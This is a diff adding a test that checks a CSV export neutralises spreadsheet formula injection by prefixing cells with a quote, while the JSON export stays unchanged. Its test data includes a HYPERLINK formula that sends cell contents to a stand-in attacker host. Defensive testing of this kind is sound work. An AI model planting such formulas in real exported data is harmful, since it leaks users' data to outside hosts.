@@ -3,6 +3,7 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
+import { cypher } from '../../src/db/database.js';
 import { csvTableNames } from '../../src/export/csv-export.js';
 import { readSeedDataset } from '../../src/import/seeds.js';
 import { loadTaxonomy } from '../../src/taxonomy/taxonomy.js';
@@ -53,5 +54,44 @@ describe('the CSV export', () => {
     const unknown = await fetch(`${seeded.api.url}/export/csv/nothing`);
     expect(unknown.status).toBe(404);
     expect(await unknown.text()).toContain('incident_sectors');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, and only in CSV', async () => {
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"x")',
+      '+1',
+      '-2',
+      '@SUM(A1)',
+      '\tx',
+      '\rx',
+    ];
+    await seeded.database.executor().write(
+      cypher(
+        'test:formulaActors',
+        `UNWIND range(0, size($names) - 1) AS n
+         CREATE (:Actor {id: 'formula-' + n, name: $names[n], aliases: [$names[n]], type: 'UNKNOWN',
+                         description: $names[n]})`,
+      ),
+      { names: formulas },
+    );
+    const response = await fetch(`${seeded.api.url}/export/csv/actors`);
+    const text = await response.text();
+    expect(text).toContain(
+      `formula-0,"'=HYPERLINK(""https://evil.example/?d=""&A1,""x"")",UNKNOWN,`,
+    );
+    const rows = table(text).filter((a) => a.id?.startsWith('formula-'));
+    expect(rows.map((a) => [a.name, a.aliases, a.description])).toEqual(
+      formulas.map((f) => [`'${f}`, `'${f}`, `'${f}`]),
+    );
+    // Every cell of every row starts with something a spreadsheet takes as text.
+    const cells = parse(text).flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    // Other formats carry the names as they are.
+    const dataset = (await (await fetch(`${seeded.api.url}/export/json`)).json()) as {
+      actors: { id: string; name: string }[];
+    };
+    expect(dataset.actors.filter((a) => a.id.startsWith('formula-')).map((a) => a.name)).toEqual(
+      formulas,
+    );
   });
 });
